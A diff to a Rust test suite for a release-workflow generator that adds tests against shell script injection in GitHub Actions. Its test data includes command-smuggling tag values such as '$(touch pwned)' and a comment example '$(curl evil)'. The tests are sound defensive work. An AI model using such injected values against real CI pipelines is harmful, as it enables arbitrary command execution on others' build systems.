@@ -398,6 +398,7 @@ fn generated_workflows_pass_actionlint() {
         actionlint(&fx, &format!("single-app (pr-run-mode {mode})"));
         // The job graph: plan -> local builds -> global build -> host -> announce.
         let y = workflow_yaml(&fx);
+        assert_no_expression_in_run(&y);
         assert_eq!(needs(&y, "build-local-artifacts"), ["plan"]);
         assert_eq!(
             needs(&y, "build-global-artifacts"),
@@ -425,6 +426,44 @@ fn generated_workflows_pass_actionlint() {
     let fx = fresh_package("pre-lint", "1.0.0-rc.1");
     fx.ok(&["init", "--yes"]);
     actionlint(&fx, "prerelease");
+}
+
+/// No `run:` script of the workflow holds a `${{ }}` expression: the tag, refs, inputs and
+/// every other value reach scripts as environment variables, so a tag like
+/// `v1.0.0$(curl evil)` is data, never shell (GitHub's script-injection advice).
+fn assert_no_expression_in_run(y: &Yaml) {
+    let mut runs = 0;
+    for (name, job) in y["jobs"].as_hash().expect("jobs") {
+        for step in job["steps"].as_vec().into_iter().flatten() {
+            if let Some(script) = step["run"].as_str() {
+                runs += 1;
+                assert!(
+                    !script.contains("${{"),
+                    "job {name:?} interpolates an expression into a script:\n{script}"
+                );
+            }
+        }
+    }
+    assert!(runs > 3, "no scripts found");
+}
+
+/// A tag with shell metacharacters is refused by name before anything runs.
+#[test]
+fn a_tag_with_shell_metacharacters_is_refused() {
+    let fx = dist_app(
+        "meta-app",
+        "hello",
+        "targets = [\"x86_64-unknown-linux-gnu\"]\n",
+    );
+    for tag in [
+        "v0.1.0$(touch pwned)",
+        "v0.1.0;touch pwned",
+        "v0.1.0`touch pwned`",
+    ] {
+        let err = fx.fails(&["plan", "--tag", tag], 1);
+        assert!(err.contains(tag), "{err}");
+        assert!(!fx.root().join("pwned").exists());
+    }
 }
 
 /// `publish-jobs`: Homebrew (to the tap, with its token), npm (with its token) and a custom
@@ -727,6 +766,7 @@ fn every_workflow_key_together() {
     );
     let y = &YamlLoader::load_from_str(&w).unwrap()[0];
     assert_all_keys_jobs(y);
+    assert_no_expression_in_run(y);
     assert!(
         w.contains("gh release create \"$TAG\" --latest --target"),
         "{w}"
@@ -1051,7 +1091,10 @@ nasm = "2.16"
         "Rust is on PATH before this tool installs: {step_names:?}"
     );
     let w = read(&fx, WORKFLOW);
-    assert!(w.contains("run: ${{ matrix.install }}"), "{w}");
+    assert!(
+        w.contains("INSTALL: ${{ matrix.install }}") && w.contains("run: eval \"$INSTALL\""),
+        "{w}"
+    );
     // The plan job's step, exactly as written, on the real plan: `cargo` is this tool.
     let matrix = run_plan_step(&fx);
     for row in matrix["include"].as_array().unwrap() {
